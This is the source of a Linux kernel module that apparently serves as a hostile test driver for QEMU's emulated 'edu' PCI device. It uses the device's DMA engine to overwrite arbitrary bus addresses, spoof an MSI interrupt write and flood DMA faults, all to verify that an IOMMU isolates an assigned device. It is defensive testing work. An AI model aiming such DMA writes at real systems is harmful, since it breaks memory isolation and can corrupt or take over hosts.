// SPDX-License-Identifier: GPL-2.0
/*
 * edu_attack: a hostile driver for QEMU's "edu" PCI device (1234:11e8).
 *
 * It turns the device's DMA engine against arbitrary bus addresses, on
 * purpose without the DMA API, so that corral's scenario tests can show that
 * the IOMMU fences an assigned device: a DMA to memory that is not the driver
 * VM's own must fault, and a write shaped like an MSI must not become an
 * interrupt. Run without an IOMMU it proves the opposite: the same writes
 * land (docs/device-assignment.md).
 *
 * The register facts it relies on (QEMU hw/misc/edu.c, BAR0, MMIO):
 *   0x00  identification, low byte 0xed
 *   0x80  DMA source address       (64-bit; 4- or 8-byte access)
 *   0x88  DMA destination address  (64-bit)
 *   0x90  DMA byte count           (64-bit)
 *   0x98  DMA command: bit 0 start (reads 1 while the transfer is pending,
 *         the device clears it when done), bit 1 direction (0: RAM to the
 *         device's buffer, 1: the device's buffer to RAM), bit 2 raise an
 *         interrupt when done
 * The device's own buffer is 4 KiB at device address 0x40000; it can only be
 * filled by a DMA from RAM. QEMU 7.2 (Debian 12) checks a transfer's range
 * with an off-by-one: one that ends exactly at the buffer's end (0x41000)
 * is "out of bounds" and QEMU stops with a hardware error. So this module
 * uses only the first half of the buffer and moves 4 KiB as two 2 KiB
 * transfers from it (the marker repeats every 16 bytes). The transfer runs from a timer 100 ms (virtual
 * clock) after the start bit is written, and writes to the DMA registers
 * are ignored while a transfer is pending. Every bus address is ANDed with
 * the device's dma_mask property (default 2^28 - 1), so QEMU must be run
 * with -device edu,dma_mask=0xffffffffffffffff for the addresses to be used
 * as given.
 *
 * Parameters:
 *   targets=A[,A...]  bus addresses (hex, "0x" optional) to overwrite with
 *                     4 KiB of the marker; "self" stands for a page that
 *                     this module allocates (it must be overwritten).
 *   selftest=1        first DMA into a page of our own, by its raw physical
 *                     address, and check that the marker arrived (default on).
 *   msi=1             write 4 bytes (msi_data) to bus address 0xfee00000.
 *   msi_data=N        the value of that write (default 0xeb: vector 0xeb,
 *                     fixed delivery, edge). Linux allocates device vectors
 *                     from the bottom, so 0xeb (the last one below the
 *                     system vectors) is normally free: a delivered spoof
 *                     shows as "No irq handler for vector" and is acked.
 *                     Do not use 0xff: Linux never acks a spurious-vector
 *                     interrupt, so the LAPIC would block every lower
 *                     vector and the guest would stop.
 *   timeout_ms=N      how long to wait for one transfer (default 3000).
 *   flood=N           last, N one-chunk DMA writes to flood_addr as fast as
 *                     the device takes them (default 0: none): a device
 *                     spraying faults, against the hypervisor's rate limit.
 *   flood_addr=A      their bus address (default 0x7f000000, past the RAM
 *                     of a driver VM smaller than 2 GiB).
 *
 * Every result is one line in the kernel log, starting with a marker:
 *   DMA-ATTACK device <bdf> id=<0x...>
 *   DMA-SELFTEST ok bus=<0x...> | DMA-SELFTEST FAIL bus=<0x...> ...
 *   DMA-ATTACK target=<0x...> issued
 *   DMA-ATTACK target=<0x...> completed | timeout
 *   DMA-ATTACK target=<0x...> landed | not-landed   (only for our own RAM)
 *   MSI-SPOOF issued addr=0xfee00000 data=<0x...>
 *   MSI-SPOOF completed | timeout
 *   DMA-FLOOD done n=<N> errors=<E>
 *   DMA-ATTACK-DONE
 */
#define pr_fmt(fmt) "edu_attack: " fmt

#include <linux/delay.h>
#include <linux/dma-mapping.h>
#include <linux/gfp.h>
#include <linux/io.h>
#include <linux/jiffies.h>
#include <linux/kernel.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/pci.h>
#include <linux/slab.h>
#include <linux/string.h>

#define EDU_VENDOR_ID 0x1234
#define EDU_DEVICE_ID 0x11e8

#define EDU_REG_ID 0x00
#define EDU_ID_MAGIC 0xed
#define EDU_REG_DMA_SRC 0x80
#define EDU_REG_DMA_DST 0x88
#define EDU_REG_DMA_CNT 0x90
#define EDU_REG_DMA_CMD 0x98
#define EDU_CMD_START 0x1
#define EDU_CMD_TO_RAM 0x2
#define EDU_BUF_ADDR 0x40000ull
#define EDU_BUF_SIZE 4096
/* The most one transfer moves: see the QEMU 7.2 note above. */
#define EDU_CHUNK 2048

#define MSI_ADDR 0xfee00000ull
#define MARKER "CORRAL-DMA-ATTK\n"
#define MARKER_LEN 16
#define MAX_TARGETS 16
#define SELF_TOKEN "self"

static char *targets = "";
module_param(targets, charp, 0444);
MODULE_PARM_DESC(targets, "comma-separated bus addresses (hex) or \"self\"");
static bool selftest = true;
module_param(selftest, bool, 0444);
MODULE_PARM_DESC(selftest, "DMA into a page of our own first and verify it");
static bool msi;
module_param(msi, bool, 0444);
MODULE_PARM_DESC(msi, "write msi_data to bus address 0xfee00000");
static uint msi_data = 0xeb;
module_param(msi_data, uint, 0444);
MODULE_PARM_DESC(msi_data, "the 32-bit value of the MSI-shaped write");
static uint timeout_ms = 3000;
module_param(timeout_ms, uint, 0444);
MODULE_PARM_DESC(timeout_ms, "how long one transfer may take");
static uint flood;
module_param(flood, uint, 0444);
MODULE_PARM_DESC(flood, "then this many DMA writes to flood_addr");
static ulong flood_addr = 0x7f000000;
module_param(flood_addr, ulong, 0444);
MODULE_PARM_DESC(flood_addr, "the bus address of the flood");

struct edu {
	struct pci_dev *pdev;
	void __iomem *regs;
	void *staging; /* coherent: what the device buffer is filled from */
	dma_addr_t staging_bus;
	bool dead; /* a transfer never finished: leave the engine be */
};

static void fill_marker(void *buf)
{
	size_t off;

	for (off = 0; off < EDU_BUF_SIZE; off += MARKER_LEN)
		memcpy(buf + off, MARKER, MARKER_LEN);
}

/* Wait for the start bit to clear; false on timeout. */
static bool edu_wait(struct edu *edu)
{
	unsigned long deadline = jiffies + msecs_to_jiffies(timeout_ms);

	for (;;) {
		if (!(readq(edu->regs + EDU_REG_DMA_CMD) & EDU_CMD_START))
			return true;
		if (time_after(jiffies, deadline))
			return false;
		msleep(5);
	}
}

/*
 * One transfer. The registers are ignored while a transfer is pending, so a
 * stuck engine makes every later transfer fail the read-back check.
 */
static int edu_dma(struct edu *edu, u64 src, u64 dst, u64 cnt, u64 cmd)
{
	if (edu->dead)
		return -EBUSY;
	writeq(src, edu->regs + EDU_REG_DMA_SRC);
	writeq(dst, edu->regs + EDU_REG_DMA_DST);
	writeq(cnt, edu->regs + EDU_REG_DMA_CNT);
	if (readq(edu->regs + EDU_REG_DMA_SRC) != src ||
	    readq(edu->regs + EDU_REG_DMA_DST) != dst ||
	    readq(edu->regs + EDU_REG_DMA_CNT) != cnt) {
		pr_notice(
			"DMA-ATTACK error: the DMA registers did not take the values written\n");
		return -EIO;
	}
	/* The address writes reach the device before the start bit. */
	wmb();
	writeq(cmd | EDU_CMD_START, edu->regs + EDU_REG_DMA_CMD);
	if (!edu_wait(edu)) {
		edu->dead = true;
		return -ETIMEDOUT;
	}
	/* The device's write is visible before we look at memory. */
	rmb();
	return 0;
}

/*
 * Load the first EDU_CHUNK bytes of the device's buffer from the staging
 * page (a legitimate DMA, through the DMA API's address).
 */
static int edu_load_buffer(struct edu *edu)
{
	return edu_dma(edu, edu->staging_bus, EDU_BUF_ADDR, EDU_CHUNK, 0);
}

static int edu_load_marker(struct edu *edu)
{
	fill_marker(edu->staging);
	return edu_load_buffer(edu);
}

/*
 * The device buffer to a raw bus address: the attack itself. cnt bytes, in
 * transfers of at most EDU_CHUNK, each from the start of the buffer.
 */
static int edu_store(struct edu *edu, u64 bus, u64 cnt)
{
	u64 off, n;
	int ret;

	for (off = 0; off < cnt; off += n) {
		n = min_t(u64, cnt - off, EDU_CHUNK);
		ret = edu_dma(edu, EDU_BUF_ADDR, bus + off, n, EDU_CMD_TO_RAM);
		if (ret)
			return ret;
	}
	return 0;
}

static bool holds_marker(const void *p)
{
	size_t off;

	for (off = 0; off < EDU_BUF_SIZE; off += MARKER_LEN) {
		if (memcmp(p + off, MARKER, MARKER_LEN))
			return false;
	}
	return true;
}

/* DMA into a zeroed page of ours by its physical address, and check it. */
static void run_selftest(struct edu *edu)
{
	unsigned long page = get_zeroed_page(GFP_KERNEL);
	u64 bus;
	int ret;

	if (!page) {
		pr_notice("DMA-SELFTEST FAIL no memory\n");
		return;
	}
	/* No IOMMU in front of the guest: the bus address is the physical one. */
	bus = virt_to_phys((void *)page);
	ret = edu_load_marker(edu);
	if (!ret)
		ret = edu_store(edu, bus, EDU_BUF_SIZE);
	if (ret)
		pr_notice("DMA-SELFTEST FAIL bus=0x%llx transfer error %d\n",
			  bus, ret);
	else if (holds_marker((void *)page))
		pr_notice("DMA-SELFTEST ok bus=0x%llx\n", bus);
	else
		pr_notice(
			"DMA-SELFTEST FAIL bus=0x%llx the marker did not arrive (first bytes %*ph)\n",
			bus, 16, (void *)page);
	free_page(page);
}

/* Whether bus is a page of this guest's RAM that we may read back. */
static bool own_ram(u64 bus)
{
	unsigned long pfn = PHYS_PFN(bus);

	return pfn_valid(pfn) && page_is_ram(pfn);
}

static void attack_one(struct edu *edu, u64 bus)
{
	int ret;

	ret = edu_load_marker(edu);
	if (ret) {
		pr_notice("DMA-ATTACK target=0x%llx not-issued error %d\n", bus,
			  ret);
		return;
	}
	pr_notice("DMA-ATTACK target=0x%llx issued\n", bus);
	ret = edu_store(edu, bus, EDU_BUF_SIZE);
	if (ret) {
		pr_notice("DMA-ATTACK target=0x%llx %s\n", bus,
			  ret == -ETIMEDOUT ? "timeout" : "error");
		return;
	}
	pr_notice("DMA-ATTACK target=0x%llx completed\n", bus);
	if (own_ram(bus) && PAGE_ALIGNED(bus)) {
		void *p = memremap(bus, EDU_BUF_SIZE, MEMREMAP_WB);

		if (p) {
			pr_notice("DMA-ATTACK target=0x%llx %s\n", bus,
				  holds_marker(p) ? "landed" : "not-landed");
			memunmap(p);
		}
	}
}

static void attack_self(struct edu *edu)
{
	unsigned long page = get_zeroed_page(GFP_KERNEL);

	if (!page) {
		pr_notice("DMA-ATTACK target=self no memory\n");
		return;
	}
	attack_one(edu, virt_to_phys((void *)page));
	free_page(page);
}

static void run_targets(struct edu *edu)
{
	char *list, *cur, *tok;
	unsigned int n = 0;
	u64 bus;

	list = kstrdup(targets ? targets : "", GFP_KERNEL);
	if (!list)
		return;
	cur = list;
	while ((tok = strsep(&cur, ",")) != NULL) {
		tok = strim(tok);
		if (!*tok)
			continue;
		if (++n > MAX_TARGETS) {
			pr_notice("DMA-ATTACK error: more than %d targets\n",
				  MAX_TARGETS);
			break;
		}
		if (!strcmp(tok, SELF_TOKEN)) {
			attack_self(edu);
			continue;
		}
		/* kstrtoull with base 16 accepts an optional 0x. */
		if (kstrtoull(tok, 16, &bus)) {
			pr_notice("DMA-ATTACK error: bad target \"%s\"\n", tok);
			continue;
		}
		attack_one(edu, bus);
	}
	kfree(list);
}

/* An MSI-shaped write that nobody programmed: 4 bytes to 0xfee00000. */
static void run_msi_spoof(struct edu *edu)
{
	u32 data = msi_data;
	int ret;

	memset(edu->staging, 0, EDU_CHUNK);
	memcpy(edu->staging, &data, sizeof(data));
	ret = edu_load_buffer(edu);
	if (ret) {
		pr_notice("MSI-SPOOF not-issued error %d\n", ret);
		return;
	}
	pr_notice("MSI-SPOOF issued addr=0x%llx data=0x%x\n", MSI_ADDR, data);
	ret = edu_store(edu, MSI_ADDR, sizeof(data));
	pr_notice("MSI-SPOOF %s\n", ret ? "timeout" : "completed");
}

/* flood DMA writes outside the VM: each one an IOMMU fault. */
static void run_flood(struct edu *edu)
{
	unsigned int i, errors = 0;

	if (edu_load_marker(edu)) {
		pr_notice("DMA-FLOOD not-issued\n");
		return;
	}
	for (i = 0; i < flood; i++) {
		if (edu_store(edu, flood_addr, EDU_CHUNK))
			errors++;
		cond_resched();
	}
	pr_notice("DMA-FLOOD done n=%u errors=%u\n", flood, errors);
}

static int edu_probe(struct pci_dev *pdev, const struct pci_device_id *id)
{
	struct edu *edu;
	u32 ident;
	int ret;

	edu = devm_kzalloc(&pdev->dev, sizeof(*edu), GFP_KERNEL);
	if (!edu)
		return -ENOMEM;
	edu->pdev = pdev;
	ret = pcim_enable_device(pdev);
	if (ret)
		return ret;
	ret = pcim_iomap_regions(pdev, BIT(0), KBUILD_MODNAME);
	if (ret)
		return ret;
	edu->regs = pcim_iomap_table(pdev)[0];
	ident = readl(edu->regs + EDU_REG_ID);
	pr_notice("DMA-ATTACK device %s id=0x%08x\n", pci_name(pdev), ident);
	if ((ident & 0xff) != EDU_ID_MAGIC) {
		pr_notice("DMA-ATTACK error: not an edu device\n");
		return -ENODEV;
	}
	/* The staging page goes through the DMA API: only the attack does not. */
	ret = dma_set_mask_and_coherent(&pdev->dev, DMA_BIT_MASK(64));
	if (ret)
		ret = dma_set_mask_and_coherent(&pdev->dev, DMA_BIT_MASK(32));
	if (ret)
		return ret;
	edu->staging = dmam_alloc_coherent(&pdev->dev, EDU_BUF_SIZE,
					   &edu->staging_bus, GFP_KERNEL);
	if (!edu->staging)
		return -ENOMEM;
	pci_set_master(pdev);

	if (selftest)
		run_selftest(edu);
	run_targets(edu);
	if (msi)
		run_msi_spoof(edu);
	if (flood)
		run_flood(edu);
	pr_notice("DMA-ATTACK-DONE\n");
	pci_set_drvdata(pdev, edu);
	return 0;
}

static void edu_remove(struct pci_dev *pdev)
{
	pci_clear_master(pdev);
}

static const struct pci_device_id edu_ids[] = {
	{ PCI_DEVICE(EDU_VENDOR_ID, EDU_DEVICE_ID) },
	{},
};

MODULE_DEVICE_TABLE(pci, edu_ids);

static struct pci_driver edu_driver = {
	.name = "edu_attack",
	.id_table = edu_ids,
	.probe = edu_probe,
	.remove = edu_remove,
};

module_pci_driver(edu_driver);

MODULE_DESCRIPTION(
	"corral test: DMA and MSI-spoof attacks from QEMU's edu device");
MODULE_LICENSE("GPL");
